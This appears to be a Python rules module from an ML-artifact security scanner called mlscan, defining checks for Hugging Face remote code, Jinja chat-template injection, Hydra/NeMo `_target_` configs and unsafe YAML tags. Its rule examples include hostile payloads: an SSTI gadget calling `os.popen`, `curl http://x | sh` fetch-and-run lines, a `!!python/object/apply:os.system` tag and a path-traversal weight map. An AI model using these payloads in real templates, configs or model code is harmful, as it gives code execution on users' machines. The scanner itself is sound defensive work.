"""MLS220-MLS229: Hugging Face repositories, Jinja chat templates and Hydra/NeMo YAML."""

from __future__ import annotations

from mlscan.model import Confidence, Rule, RuleDoc, Severity
from mlscan.registry import register

_HF_REMOTE = "https://huggingface.co/docs/transformers/custom_models"
_HF_DYN = "https://github.com/huggingface/transformers/blob/main/src/transformers/dynamic_module_utils.py"
_SSTI = "https://jinja.palletsprojects.com/en/stable/sandbox/"
_HF_TEMPLATES = "https://huggingface.co/docs/transformers/chat_templating"
_HYDRA = "https://hydra.cc/docs/advanced/instantiate_objects/overview/"

HF_REMOTE_CODE = register(Rule(
    code="MLS220",
    name="hf-remote-code",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    summary="Hugging Face config maps classes to Python code in the repository (auto_map, "
    "custom pipelines): loading runs that code under trust_remote_code=True.",
    cwe=94,
    doc=RuleDoc(
        what="Reads `config.json`, `tokenizer_config.json`, `preprocessor_config.json` and "
        "every other JSON config for `auto_map` and `custom_pipelines` entries and names the "
        "module file each one resolves to (`modeling_x.MyModel` -> `modeling_x.py`). Also "
        "reports diffusers `model_index.json` components from unknown libraries and PEFT "
        "`auto_mapping` parent libraries outside known packages. The Python files "
        "themselves are scanned by mlscan's code analyzers when the folder is scanned.",
        why="`AutoModel.from_pretrained(..., trust_remote_code=True)` imports these modules: "
        "any code in them runs with the user's privileges. Reviewing that code is the only "
        "protection, so mlscan says exactly which files will run.",
        example='{"auto_map": {"AutoModel": "modeling_x.MyModel"}}',
        use_instead="Prefer architectures built into transformers; otherwise review the "
        "listed files and pin `revision=` to the reviewed commit.",
        references=(_HF_REMOTE, _HF_DYN),
    ),
))

HF_REMOTE_CODE_CROSS_REPO = register(Rule(
    code="MLS221",
    name="hf-remote-code-other-repo",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    summary="auto_map points at code in another Hugging Face repository "
    "(owner/repo--module.Class).",
    cwe=829,
    doc=RuleDoc(
        what="Flags `auto_map` values of the form `owner/repo--module.Class`, which make "
        "transformers download and run a module from a different repository.",
        why="The code that runs is not in the folder you scanned or reviewed, and it is fetched "
        "at load time from a repository that can change at any moment.",
        example='{"auto_map": {"AutoModel": "someone/other-repo--modeling.Net"}}',
        use_instead="Copy the reviewed module into the repository and reference it locally, "
        "or pin the revision of the other repository.",
        references=(_HF_REMOTE, _HF_DYN),
    ),
))

HF_REMOTE_CODE_MISSING = register(Rule(
    code="MLS222",
    name="hf-remote-code-missing",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    summary="auto_map names a module that is not in the scanned folder (fetched at load time).",
    cwe=829,
    doc=RuleDoc(
        what="Resolves each `auto_map` target `module.Class` to `module.py` next to the config "
        "and reports targets whose file is missing (or is a link out of the folder).",
        why="A downloaded snapshot without the module makes transformers fetch it from the Hub "
        "when loading, so the code that runs was never scanned.",
        example='config.json: {"auto_map": {"AutoModel": "modeling_gone.Net"}} and no '
        "modeling_gone.py",
        use_instead="Download the complete repository (including *.py) and scan it again.",
        references=(_HF_DYN,),
    ),
))

HF_DATASET_SCRIPT = register(Rule(
    code="MLS223",
    name="hf-dataset-script",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    summary="Dataset loading script: `datasets.load_dataset` runs this Python file.",
    cwe=94,
    doc=RuleDoc(
        what="Reports Python files that define a `datasets` builder (GeneratorBasedBuilder, "
        "ArrowBasedBuilder, DatasetBuilder) and would be executed by `load_dataset` on the "
        "folder. The code itself is checked by mlscan's code analyzers.",
        why="Loading a dataset with a script executes arbitrary code; users often think of a "
        "dataset as data only.",
        example="squad/squad.py: class Squad(datasets.GeneratorBasedBuilder): ...",
        use_instead="Prefer datasets published as Parquet/Arrow/JSON files; review the script "
        "before `trust_remote_code=True`.",
        references=("https://huggingface.co/docs/datasets/dataset_script",),
    ),
))

HF_INDEX_TRAVERSAL = register(Rule(
    code="MLS224",
    name="hf-index-path-escape",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    summary="A sharded-weights index maps tensors to files outside the model folder.",
    cwe=22,
    doc=RuleDoc(
        what="Checks `*.index.json` `weight_map` entries (and similar file references) for "
        "absolute paths and `..` components.",
        why="Loaders join these names to the model folder; an escaping name makes them read "
        "(and for `.bin` shards, unpickle) a file the attacker planted elsewhere.",
        example='{"weight_map": {"w": "../../tmp/evil.bin"}}',
        use_instead="Shard names must be plain file names inside the model folder.",
        references=("https://cwe.mitre.org/data/definitions/22.html",),
    ),
))

TEMPLATE_INJECTION = register(Rule(
    code="MLS225",
    name="template-injection",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    summary="Jinja chat template reaches Python internals (SSTI: __class__, __globals__, "
    "|attr with built names, os/popen).",
    cwe=1336,
    doc=RuleDoc(
        what="Lexes chat templates from `tokenizer_config.json`, `chat_template.json`/`.jinja` "
        "and GGUF metadata and flags access to dunder or private attributes, `|attr` with "
        "built or dunder names, names assembled from pieces (`'__cla' ~ 'ss__'`, hex "
        "escapes), gadget chains through `cycler`/`joiner`/`namespace`/`lipsum`/`self`, and "
        "`os`/`popen`/`import` attributes.",
        why="Many inference servers render chat templates with a plain (unsandboxed) Jinja "
        "environment; these patterns climb from a template object to Python builtins and run "
        "shell commands when a chat request is formatted.",
        example="{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        use_instead="Chat templates only need messages, loops, conditions and filters; render "
        "them with jinja2.sandbox.ImmutableSandboxedEnvironment.",
        references=(_SSTI, _HF_TEMPLATES),
    ),
))

TEMPLATE_SUSPICIOUS = register(Rule(
    code="MLS226",
    name="template-suspicious",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    summary="Chat template uses constructs ordinary templates never need (include/import, "
    "|attr, dunder strings) or does not parse.",
    cwe=1336,
    doc=RuleDoc(
        what="Reports chat templates that do not parse as Jinja, that include or import other "
        "templates, use `|attr` with a plain name, or carry dunder-like strings that are not "
        "known gadgets.",
        why="These are the building blocks of template injection; legitimate chat templates "
        "do without them. A template that does not parse could not be checked completely.",
        example="{% include '/etc/passwd' %}",
        use_instead="Keep chat templates to messages, loops, conditions and built-in filters.",
        references=(_SSTI, _HF_TEMPLATES),
    ),
))

YAML_TARGET_DANGEROUS = register(Rule(
    code="MLS227",
    name="yaml-target-dangerous",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    summary="Hydra/NeMo `_target_` instantiates a dangerous callable (os.system, subprocess, "
    "eval...).",
    cwe=470,
    doc=RuleDoc(
        what="Walks YAML configs for `_target_` keys (Hydra `instantiate`, NeMo model "
        "configs inside `.nemo` archives) and flags targets on mlscan's denylist, including "
        "indirection through `hydra.utils.get_method`/`get_class`/`get_object` and "
        "`functools.partial`.",
        why="`hydra.utils.instantiate(cfg)` imports and calls whatever `_target_` names; "
        "restoring a NeMo model does this for every block of its config.",
        example="_target_: os.system\ncommand: curl http://x | sh",
        use_instead="Targets should be classes of the model's own library (nemo.*, torch.*).",
        references=(_HYDRA,),
    ),
))

YAML_TARGET_UNLISTED = register(Rule(
    code="MLS228",
    name="yaml-target-unlisted",
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    summary="Hydra/NeMo `_target_` outside the allowlist of known ML libraries.",
    cwe=470,
    doc=RuleDoc(
        what="Reports `_target_` values whose top-level package is not a known ML library "
        "(nemo, torch, lightning, transformers, hydra, omegaconf...).",
        why="Instantiation imports the named module and calls it; a project's own classes are "
        "normal, but every such target is code that runs on load and deserves a look.",
        example="_target_: mypkg.models.Net",
        use_instead="Nothing, if the module is your own reviewed code.",
        references=(_HYDRA,),
    ),
))

YAML_PYTHON_TAG = register(Rule(
    code="MLS229",
    name="yaml-python-tag",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    summary="YAML file uses !!python/object, /apply or /name tags (code runs under yaml.load "
    "with an unsafe loader).",
    cwe=502,
    doc=RuleDoc(
        what="Flags YAML nodes tagged `tag:yaml.org,2002:python/...` (object, object/apply, "
        "object/new, name, module).",
        why="`yaml.load(..., Loader=yaml.Loader)` / `yaml.unsafe_load` construct these tags by "
        "importing and calling the named Python object: a config file becomes a payload.",
        example="!!python/object/apply:os.system ['id']",
        use_instead="Plain YAML types only, loaded with yaml.safe_load.",
        references=("https://pyyaml.org/wiki/PyYAMLDocumentation",),
    ),
))

REMOTE_CODE_DANGEROUS_CALL = register(Rule(
    code="MLS212",
    name="remote-code-dangerous-call",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    summary="A module that trust_remote_code=True imports calls process, network, dynamic-code "
    "or native-library APIs.",
    cwe=94,
    doc=RuleDoc(
        what="For every module an `auto_map`/`custom_pipelines` entry resolves to, lists calls "
        "to `os.system`/`subprocess`/`pty`, sockets and HTTP clients, `eval`/`exec`/"
        "`compile`/`__import__`, `importlib.import_module`, `ctypes`, `marshal`/`pickle` "
        "loads and decoders, with their lines. The module is parsed, never imported.",
        why="Model code runs inside `from_pretrained`. Ordinary modeling code builds layers; "
        "it has no reason to start processes, open connections or decode and run code. "
        "Malicious Hub repositories hide their payload exactly there.",
        example="# modeling_x.py\nimport os\nos.system('curl http://x | sh')",
        use_instead="Remove the call from the model code (download and set-up belong in "
        "tooling the user runs knowingly), or do not load the repository.",
        references=(_HF_REMOTE,),
    ),
))
